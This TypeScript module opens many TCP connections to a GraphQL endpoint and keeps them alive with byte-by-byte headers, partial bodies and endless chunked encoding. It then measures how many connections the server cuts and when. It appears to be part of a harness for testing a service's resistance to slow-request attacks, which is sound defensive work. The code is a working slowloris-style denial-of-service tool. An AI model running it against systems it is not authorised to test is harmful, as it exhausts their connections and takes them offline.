import { connect, type Socket } from 'node:net'
import type { Place } from './attack.ts'

const BYTE_MS = 500
const BODY = '{"query":"{ __typename }"}'

type Dawdling = { first: string; later: string }

/** Each sends the first at once and then a character now and again, and never comes to an end. */
const ways: Record<string, (head: string) => Dawdling> = {
  'headers by the byte': () => ({ first: 'POST /graphql HTTP/1.1\r\nhost: x\r\n', later: 'x-a: b\r\n' }),
  'a request line by the byte': () => ({ first: '', later: 'GET /' }),
  'half a body': head => ({ first: `${head}content-length: 5000\r\n\r\n${BODY.slice(0, 12)}`, later: '' }),
  'a body by the byte': head => ({ first: `${head}content-length: 5000\r\n\r\n`, later: ' ' }),
  'chunks without end': head => ({ first: `${head}transfer-encoding: chunked\r\n\r\n`, later: '1\r\n \r\n' }),
  'a body by the byte, to the stream': head => ({
    first: `${head.replace('/graphql', '/graphql/stream')}content-length: 5000\r\n\r\n`,
    later: ' ',
  }),
  'a body by the byte, without a token': head => ({
    first: `${head.replace(/authorization.*\r\n/, '')}content-length: 5000\r\n\r\n`,
    later: ' ',
  }),
}

/** What became of the connections of a way: how many there were, how many were cut, and after how many seconds the last. */
export type Dawdled = { way: string; opened: number; cut: number; seconds: number }

/** Opens connections that dawdle, and holds them until `end`. */
export function dawdle({ url, token }: Place, connections: number) {
  const { hostname, port } = new URL(url)
  const head = `POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\n`
  const began = performance.now()
  const all = Array.from({ length: connections }, (_, index) => {
    const [way, make] = Object.entries(ways)[index % Object.keys(ways).length] ?? ['', () => ({ first: '', later: '' })]
    return { way, ...open(connect(Number(port), hostname), make(head)) }
  })
  return {
    end(): Dawdled[] {
      for (const { socket } of all) socket.destroy()
      return Object.keys(ways).map(way => {
        const ours = all.filter(one => one.way === way)
        const closed = ours.flatMap(({ closedAt }) => closedAt() ?? [])
        return { way, opened: ours.length, cut: closed.length, seconds: (Math.max(...closed, began) - began) / 1_000 }
      })
    },
  }
}

/** The time when the other side closed it; undefined as long as it has not. */
function open(socket: Socket, { first, later }: Dawdling) {
  let closed: number | undefined
  let next = 0
  const timer = setInterval(() => later && socket.write(later[next++ % later.length] ?? ''), BYTE_MS)
  socket.on('error', () => undefined)
  socket.resume().once('close', () => {
    closed = performance.now()
    clearInterval(timer)
  })
  socket.write(first)
  return { socket, closedAt: () => closed }
}
